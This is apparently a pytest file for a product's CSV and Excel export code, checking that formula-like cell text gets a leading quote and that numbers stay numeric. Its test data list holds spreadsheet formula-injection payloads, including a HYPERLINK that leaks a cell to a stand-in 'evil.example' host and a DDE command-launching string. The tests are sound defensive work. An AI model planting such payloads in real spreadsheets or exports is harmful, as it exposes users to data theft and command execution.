"""CSV and .xlsx written by the product never carry a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from backend.utils.spreadsheets import neutralise, write_csv, write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
ROWS: list[list[object]] = [
    ["metric", "ts", "value", "note"],
    *[["revenue", datetime(2026, 1, i + 1, 9, tzinfo=UTC), -12.5, text] for i, text in enumerate(DANGEROUS)],
    ["orders", date(2026, 1, 9), 7, "plain = text, not a formula"],
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, 0, 7, True, None, "revenue", "a=b", date(2026, 1, 1)])
def test_numbers_and_ordinary_text_are_unchanged(value: object) -> None:
    assert neutralise(value) == value  # type: ignore[arg-type]


def test_csv_cells_read_back_as_text_or_numbers_never_formulas() -> None:
    parsed = list(csv.reader(io.StringIO(write_csv(ROWS))))  # type: ignore[arg-type]
    assert parsed[0] == ["metric", "ts", "value", "note"]
    notes = [row[3] for row in parsed[1:-1]]
    assert notes == ["'" + text for text in DANGEROUS]
    assert all(row[2] == "-12.5" for row in parsed[1:-1])  # a negative number stays a number
    assert parsed[1][1] == "2026-01-01T09:00:00+00:00" and parsed[-1][1] == "2026-01-09"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed for cell in row[3:])


def test_xlsx_has_no_formula_cell_and_keeps_numbers_numeric() -> None:
    workbook = load_workbook(io.BytesIO(write_xlsx(ROWS)))  # type: ignore[arg-type]
    sheet = workbook.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    # The workbook's XML turns a carriage return into a line feed; the quote still leads.
    assert [row[3] for row in rows[1:-1]] == ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert all(row[2] == -12.5 for row in rows[1:-1]) and rows[-1][2] == 7
    assert rows[1][1] == datetime(2026, 1, 1, 9)  # UTC, without a zone (Excel has none)


def test_xlsx_replaces_control_characters_instead_of_failing() -> None:
    workbook = load_workbook(io.BytesIO(write_xlsx([["a\x01b"]])))
    sheet = workbook.active
    assert sheet is not None and sheet["A1"].value == "a\ufffdb"
